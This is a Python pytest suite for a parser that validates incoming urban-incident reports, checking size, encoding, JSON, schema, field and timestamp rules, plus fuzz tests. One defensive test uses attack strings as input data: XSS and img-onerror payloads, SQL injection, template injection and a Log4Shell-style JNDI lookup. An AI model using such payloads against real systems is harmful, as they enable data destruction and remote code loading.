"""Intake: raw bytes/text/dicts -> Report or Rejection, never an exception."""

from __future__ import annotations

import json
import math
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from grid.intake import MAX_BYTES, FieldError, Rejection, parse_report
from grid.models import Report

NOW = datetime(2026, 5, 1, 2, 0, tzinfo=UTC)  # 10:00 in Shanghai
TAXONOMY = SimpleNamespace(types={"0101": object(), "0301": object(), "0705": object()})
RID = "3f2b6c1e-8a4d-4e2b-9c1a-5d6e7f8a9b0c"


def report(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "schema": "grid.report/1", "report_id": RID, "source": "supervisor",
        "reporter_id": "sup-0042", "reported_at": "2026-05-01T09:55:00+08:00",
        "location": {"lon": 121.4737, "lat": 31.2304, "crs": "gcj02"},
        "type_code": "0101", "description": "井盖缺失 manhole cover missing",
        "photos": ["https://img.example/1.jpg"],
    }
    data.update(changes)
    return {k: v for k, v in data.items() if v is not ...}


def parse(raw: Any, **kw: Any) -> Report | Rejection:
    kw.setdefault("taxonomy", TAXONOMY)
    kw.setdefault("now", NOW)
    return parse_report(raw, **kw)


def rejected(raw: Any, reason: str, **kw: Any) -> Rejection:
    r = parse(raw, **kw)
    assert isinstance(r, Rejection), f"expected a {reason} rejection, got {r!r}"
    assert r.reason == reason, r
    assert r.message and "errors.pydantic.dev" not in r.message
    return r


def fields(r: Rejection) -> dict[str, str]:
    return {e.field: e.message for e in r.errors}


# --- accepted ------------------------------------------------------------------------------

@pytest.mark.parametrize("form", ["bytes", "str", "dict", "bytearray", "memoryview"])
def test_valid_report_in_every_form(form: str) -> None:
    data = report()
    raw = {"bytes": orjson.dumps(data), "str": orjson.dumps(data).decode(), "dict": data,
           "bytearray": bytearray(orjson.dumps(data)),
           "memoryview": memoryview(orjson.dumps(data))}[form]
    r = parse(raw)
    assert isinstance(r, Report)
    assert str(r.report_id) == RID and r.location.lat == 31.2304 and r.location.crs == "gcj02"
    assert r.reported_at.utcoffset() == timedelta(hours=8)


def test_utf8_bom_and_missing_schema_accepted() -> None:
    assert isinstance(parse(b"\xef\xbb\xbf" + orjson.dumps(report())), Report)
    assert isinstance(parse(report(schema=...)), Report)  # the model's default version


@pytest.mark.parametrize("text", [
    "<script>alert('x')</script> 井盖缺失",
    "'; DROP TABLE cases; --",
    "Robert'); DELETE FROM reports WHERE 1=1; --",
    '<img src=x onerror="fetch(`//evil`)">',
    "{{7*7}} ${jndi:ldap://x}",
])
def test_markup_and_sql_looking_text_is_plain_text(text: str) -> None:
    r = parse(orjson.dumps(report(description=text)))
    assert isinstance(r, Report) and r.description == text  # stored verbatim, escaped later


def test_citizen_report_without_type_code() -> None:
    r = parse(report(source="hotline_12345", type_code=None, description="路灯不亮"))
    assert isinstance(r, Report) and r.type_code is None


def test_no_taxonomy_no_clock_skips_those_checks() -> None:
    r = parse_report(report(type_code="9999", reported_at="2030-01-01T00:00:00+08:00"))
    assert isinstance(r, Report)


# --- size, encoding, JSON syntax ---------------------------------------------------------

def test_ten_megabyte_payload_is_too_large() -> None:
    big = b'{"description": "' + b"x" * (10 * 1024 * 1024) + b'"}'
    r = rejected(big, "too_large")
    assert "65536" in r.message and len(r.raw_excerpt) <= 200
    rejected(big.decode(), "too_large")  # text too


def test_size_limit_is_configurable_and_counts_utf8_bytes() -> None:
    raw = orjson.dumps(report(description="井" * 300))
    assert isinstance(parse(raw), Report)
    rejected(raw, "too_large", max_bytes=len(raw) - 1)
    rejected(raw.decode(), "too_large", max_bytes=len(raw) - 1)  # 3 bytes per 井
    assert MAX_BYTES == 64 * 1024


@pytest.mark.parametrize("raw", [
    b'{"description": "\xff\xfe"}',
    b'{"description": "\xe4\xb8"}',  # truncated multi-byte sequence
    b"\xc0\xaf",
])
def test_invalid_utf8(raw: bytes) -> None:
    r = rejected(raw, "invalid_utf8")
    assert "UTF-8" in r.message


def test_lone_surrogate_text_is_invalid_utf8() -> None:
    rejected('{"description": "\ud800"}', "invalid_utf8")


@pytest.mark.parametrize(("raw", "hint"), [
    (b'{"location": {"lon": NaN, "lat": 31.2}}', "NaN and Infinity"),
    (b'{"location": {"lon": Infinity, "lat": 31.2}}', "NaN and Infinity"),
    (b'{"location": {"lon": -Infinity, "lat": 31.2}}', "NaN and Infinity"),
    (b'{"location": {"lon": 1e999, "lat": 31.2}}', "1e999 is too large"),
    (b'{"location": {"lon": 121.4, "lat": 31', "ends too early"),
    (b"", "ends too early"),
    (b"{'single': 'quotes'}", "line 1"),
    (b'{"a": 1,}', "line 1"),
])
def test_invalid_json(raw: bytes, hint: str) -> None:
    r = rejected(raw, "invalid_json")
    assert hint in r.message, r.message


def test_truncated_real_report() -> None:
    raw = orjson.dumps(report())
    r = rejected(raw[: len(raw) // 2], "invalid_json")
    assert "truncated" in r.message and r.raw_excerpt


@pytest.mark.parametrize(("raw", "got"), [
    (b"[1, 2]", "an array"), (b'"text"', "a string"), (b"42", "a number"),
    (b"null", "null"), (b"true", "a boolean"), ([report()], "list"),
])
def test_not_an_object(raw: Any, got: str) -> None:
    assert got in rejected(raw, "not_an_object").message


@pytest.mark.parametrize("schema", ["grid.report/2", "grid.report/0", None, 1, ""])
def test_unknown_schema(schema: Any) -> None:
    r = rejected(orjson.dumps(report(schema=schema)), "schema_version")
    assert "grid.report/1" in r.message and r.report_id == RID
    assert r.errors == [FieldError(field="schema", message="must be 'grid.report/1'")]


# --- validation ----------------------------------------------------------------------------

def test_missing_fields_named_one_each() -> None:
    r = rejected(b'{"schema": "grid.report/1", "description": "x"}', "validation")
    assert set(fields(r)) == {"report_id", "source", "reporter_id", "reported_at", "location"}
    assert fields(r)["location"] == "is required"
    assert "5 problems" in r.message and r.report_id is None


def test_missing_nested_field() -> None:
    r = rejected(report(location={"lon": 121.4}), "validation")
    assert fields(r) == {"location.lat": "is required"}


def test_unknown_type_code() -> None:
    r = rejected(report(type_code="9999"), "validation")
    assert "unknown type code '9999'" in fields(r)["type_code"]
    r = rejected(report(type_code="01A1"), "validation")
    assert "type_code" in fields(r)


def test_supervisor_needs_type_code() -> None:
    r = rejected(report(type_code=None), "validation")
    assert fields(r) == {"type_code": "type_code is required when source is 'supervisor'"}
    r = rejected(report(source="citizen", type_code=None, description="  "), "validation")
    assert list(fields(r)) == ["type_code"]


def test_nan_and_inf_in_a_dict() -> None:
    for bad in (float("nan"), float("inf"), -math.inf):
        r = rejected(report(location={"lon": bad, "lat": 31.2}), "validation")
        assert fields(r) == {
            "location.lon": "must be a finite number (NaN and infinity are not coordinates)"}
        assert r.raw_excerpt  # excerpt of a dict with NaN still renders


@pytest.mark.parametrize(("location", "field", "message"), [
    ({"lon": 121.4, "lat": 95}, "location.lat", "Input should be less than or equal to 90"),
    ({"lon": 181, "lat": 31}, "location.lon", "Input should be less than or equal to 180"),
    ({"lon": -180.5, "lat": 31}, "location.lon",
     "Input should be greater than or equal to -180"),
    ({"lon": True, "lat": 31}, "location.lon", "must be a number, not a boolean"),
    ({"lon": 121.4, "lat": 31, "crs": "utm"}, "location.crs", "'wgs84', 'gcj02' or 'bd09'"),
])
def test_out_of_range_and_bad_coordinates(location: dict, field: str, message: str) -> None:
    r = rejected(report(location=location), "validation")
    assert message in fields(r)[field]
    assert f"{field}: " in r.message


def test_naive_timestamp() -> None:
    r = rejected(report(reported_at="2026-05-01T09:55:00"), "validation")
    assert fields(r)["reported_at"].startswith("needs a UTC offset")


def test_timestamp_one_day_in_the_future() -> None:
    r = rejected(report(reported_at="2026-05-02T10:00:00+08:00"), "validation")
    assert "in the future" in fields(r)["reported_at"]
    # within the clock tolerance is fine, and so is a UTC timestamp of the same instant
    assert isinstance(parse(report(reported_at="2026-05-01T10:05:00+08:00")), Report)
    assert isinstance(parse(report(reported_at="2026-05-01T02:05:00Z")), Report)


@pytest.mark.parametrize("ts", ["0001-01-01T00:00:00+01:00", "1999-12-31T23:59:59Z"])
def test_timestamp_before_2000(ts: Any) -> None:
    r = rejected(report(reported_at=ts), "validation")
    assert fields(r)["reported_at"].startswith("is before 2000-01-01")


def test_unparseable_timestamp() -> None:
    r = rejected(report(reported_at="yesterday"), "validation")
    assert "RFC 3339" in fields(r)["reported_at"]


def test_oversize_description() -> None:
    r = rejected(report(description="x" * 2001), "validation")
    assert fields(r) == {"description": "at most 2000 characters allowed, got 2001"}
    assert isinstance(parse(report(description="x" * 2000)), Report)


def test_ten_photos() -> None:
    r = rejected(report(photos=[f"https://img.example/{i}.jpg" for i in range(10)]),
                 "validation")
    assert fields(r) == {"photos": "at most 9 items allowed, got 10"}


def test_bad_photo_in_list_has_index() -> None:
    r = rejected(report(photos=["https://ok", ""]), "validation")
    assert list(fields(r)) == ["photos[1]"]


@pytest.mark.parametrize(("changes", "field"), [
    ({"report_id": "not-a-uuid"}, "report_id"),
    ({"report_id": 12345}, "report_id"),
    ({"source": "twitter"}, "source"),
    ({"self_disposed": "maybe"}, "self_disposed"),
    ({"photos": "https://one.jpg"}, "photos"),
    ({"location": [121.4, 31.2]}, "location"),
    ({"reporter_id": ""}, "reporter_id"),
    ({"description": 42}, "description"),
])
def test_wrong_types(changes: dict, field: str) -> None:
    r = rejected(report(**changes), "validation")
    assert field in fields(r), r.errors


def test_report_id_kept_when_readable() -> None:
    assert rejected(report(source="twitter"), "validation").report_id == RID
    assert rejected(report(report_id="bad id", source="x"), "validation").report_id == "bad id"


def test_extra_unknown_field() -> None:
    r = rejected(report(priority="urgent"), "validation")
    assert fields(r) == {"priority": "is not a field of grid.report/1; remove it "
                                     "(check the spelling)"}


def test_many_problems_are_summarised() -> None:
    data = report(**{f"x{i}": i for i in range(8)})
    r = rejected(data, "validation")
    assert len(r.errors) == 8 and "and 3 more" in r.message


def test_naive_now_is_a_caller_error() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        parse_report(report(), now=datetime(2026, 5, 1))


def test_rejection_is_json_for_the_dlq() -> None:
    r = rejected(report(location={"lon": 1, "lat": 91}), "validation")
    out = orjson.loads(r.model_dump_json(by_alias=True))
    assert out["schema"] == "grid.rejection/1" and out["reason"] == "validation"
    assert out["errors"][0]["field"] == "location.lat"


def test_real_taxonomy_if_present() -> None:
    from grid.taxonomy import default_taxonomy

    tax = default_taxonomy()
    assert isinstance(parse(report(type_code="0101"), taxonomy=tax), Report)
    assert rejected(report(type_code="9999"), "validation", taxonomy=tax).errors[0].field == (
        "type_code")


# --- fuzz ----------------------------------------------------------------------------------

json_leaf = (st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30)
             | st.sampled_from(["grid.report/1", RID, "supervisor", "0101",
                                "2026-05-01T09:55:00+08:00", "2026-05-01T09:55:00"]))
json_value = st.recursive(
    json_leaf, lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.text(max_size=10), inner, max_size=4), max_leaves=12)
field_names = st.sampled_from([*report(), "self_disposed", "evidence_photos", "component_id",
                               "address", "lon", "lat", "crs"]) | st.text(max_size=8)


def _check(r: Any) -> None:
    assert isinstance(r, Report | Rejection)
    if isinstance(r, Rejection):
        assert r.message and len(r.raw_excerpt) <= 200
        assert all(e.field and e.message for e in r.errors)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=300))
def test_fuzz_arbitrary_bytes(raw: bytes) -> None:
    _check(parse(raw))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(field_names, json_value, max_size=8))
def test_fuzz_json_ish_dicts(data: dict) -> None:
    _check(parse(data))
    # the same object as JSON text (stdlib: writes NaN/Infinity tokens and huge integers)
    _check(parse(json.dumps(data).encode()))


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(list(report())), json_value)
def test_fuzz_one_field_of_a_valid_report(key: str, value: Any) -> None:
    _check(parse(report(**{key: value})))
    _check(parse(json.dumps(report(**{key: value})).encode()))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=40), st.integers(0, 400))
def test_fuzz_corrupted_valid_report(noise: bytes, at: int) -> None:
    raw = orjson.dumps(report())
    _check(parse(raw[:at] + noise + raw[at:]))


@pytest.mark.parametrize(("field", "value", "says"), [
    ("location.lon", "121.5262", "must be a JSON number, not a string"),
    ("reported_at", 1764300000, "not a number"),
    ("reported_at", 1764300000000, "not a number"),
    ("self_disposed", "yes", "must be true or false"),
])
def test_wire_types_are_strict(field, value, says):
    """A string longitude or an epoch reported_at is not guessed at: it is rejected, and
    the message says what to send."""
    import orjson

    from grid.intake import Rejection, parse_report

    r = orjson.loads(orjson.dumps({
        "schema": "grid.report/1", "report_id": "3f0c2b9e-5d1a-4c7e-9b2f-0a1d2c3e4f51",
        "source": "supervisor", "reporter_id": "sup-1",
        "reported_at": "2026-11-21T09:30:00+08:00",
        "location": {"lon": 121.5262, "lat": 31.2708, "crs": "gcj02"}, "type_code": "0101"}))
    if "." in field:
        outer, inner = field.split(".")
        r[outer][inner] = value
    else:
        r[field] = value
    out = parse_report(orjson.dumps(r))
    assert isinstance(out, Rejection) and out.reason == "validation"
    assert [e.field for e in out.errors] == [field] and says in out.errors[0].message
